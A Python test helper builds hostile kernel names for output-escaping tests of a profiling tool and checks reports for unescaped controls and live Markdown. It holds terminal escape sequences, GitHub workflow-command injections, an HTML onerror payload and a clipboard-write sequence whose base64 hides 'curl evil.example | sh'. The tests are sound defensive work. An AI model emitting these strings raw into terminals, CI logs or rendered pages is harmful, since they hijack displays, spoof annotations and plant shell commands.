"""Hostile names for the output-escaping tests: every kind of text that must not reach a terminal,
a GitHub annotation or a Markdown hover as such, a copy of the CNN sample whose kernel types carry
them, and the checks that find any that got through."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

CNN = Path(__file__).resolve().parents[2] / "samples" / "cnn_classifier"

# Each kind of hostile text; the name says what it would do if it were emitted raw.
KINDS = {
    "osc-set-title": "\x1b]0;pwned\x07",
    "csi-clear-screen": "\x1b[2J\x1b[H",
    "osc8-hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc52-clipboard-write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "c1-csi": "\x9b31m",
    "c1-osc-st": "\x9d0;t\x9c",
    "bidi-override": "\u202egnp.exe\u202c",
    "bidi-isolate": "\u2066x\u2069",
    "backspace-del": "ab\x08\x08\x7f",
    "newline-workflow-command": "\n::error file=a.py,line=1::injected\n",
    "cr-workflow-command": "\r::warning::spoofed",
    "line-separator": "\u2028::error::ls\u2029",
    "nel": "\x85::error::nel",
    "markdown-image": "![x](https://evil.example/x.png)",
    "markdown-link": "[click](https://evil.example/)",
    "html-tag": "<img src=https://evil.example/y.png onerror=alert(1)>",
    "autolink": "<https://evil.example/z>",
}
HOSTILE = "Conv" + "".join(KINDS.values())  # every kind in one op name
SHORT = "TD\x1b]0;t\x07\x1b[2J"  # short enough to be listed whole among a hotspot's operators
BACKWARD = "CBI\x1b[2J\u202e"  # the conv line's costliest kernel: its code lens names it

_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
_OUR_SGR = re.compile(r"\x1b\[[0-9;]*m")  # the text report's own colours (--color always)


def raw_controls(out: str, *, colour: bool = False) -> list[str]:
    """Control, format and separator characters in ``out`` other than its line breaks."""
    if colour:
        out = _OUR_SGR.sub("", out)
    return sorted({repr(c) for c in _CONTROL.findall(out.replace("\n", ""))})


def live_markdown(md: str) -> list[str]:
    """What a CommonMark/GFM renderer could turn into a link, image, raw HTML or a table break:
    any unescaped ``<``, ``>``, ``[``, ``]``, ``!``, ``|``, ``&``, backtick, or a bare URL."""
    unescaped = re.sub(r"\\[!-/:-@\[-`{-~]", "", md)
    found = [c for c in "<>[]!|&`" if c in unescaped]
    if re.search(r"https?://|www\.", unescaped):
        found.append("url")
    return found


def _rename_cells(path: Path, old: str, new: str) -> int:
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    n = 0
    for row in rows[1:]:
        for i, cell in enumerate(row):
            if cell == old:
                row[i] = new
                n += 1
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)
    return n


def hostile_cnn_workspace(ws: Path) -> Path:
    """The CNN sample (sources and both ranks' torch_npu profiles) in ``ws`` with every Conv2D
    kernel type renamed to ``HOSTILE``, every TransData to ``SHORT`` and Conv2DBackpropInput to
    ``BACKWARD``."""
    ws.mkdir(parents=True)
    for f in CNN.glob("*.py"):
        shutil.copy2(f, ws / f.name)
    shutil.copytree(CNN / "npu_profile", ws / "npu_profile")
    tables = list((ws / "npu_profile").rglob("kernel_details.csv"))
    assert sum(_rename_cells(p, "Conv2D", HOSTILE) for p in tables)
    assert sum(_rename_cells(p, "TransData", SHORT) for p in tables)
    assert sum(_rename_cells(p, "Conv2DBackpropInput", BACKWARD) for p in tables)
    return ws
